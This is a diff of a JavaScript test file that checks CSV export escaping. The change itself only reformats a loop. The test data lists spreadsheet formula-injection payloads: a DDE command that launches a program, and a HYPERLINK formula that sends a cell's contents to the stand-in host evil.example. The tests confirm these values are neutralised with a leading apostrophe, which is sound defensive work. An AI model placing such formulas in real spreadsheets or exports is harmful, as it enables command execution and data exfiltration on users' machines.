@@ -26,7 +26,8 @@ it.each([
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1)',
 ])('%j is text, as a value and as a heading', (text) => {
-  for (const line of [csvLine({ a: text, b: 'x' }), csvHead({ [text]: '', b: '' })]) expect(firstCell(line)).toBe(`'${text}`)
+  for (const line of [csvLine({ a: text, b: 'x' }), csvHead({ [text]: '', b: '' })])
+    expect(firstCell(line)).toBe(`'${text}`)
 })
 
 it.each(['Ana', 'a=b', 'A-1', '1 + 1', 'me@example.org', '', '’tis'])('%j stays as it is', (text) => {
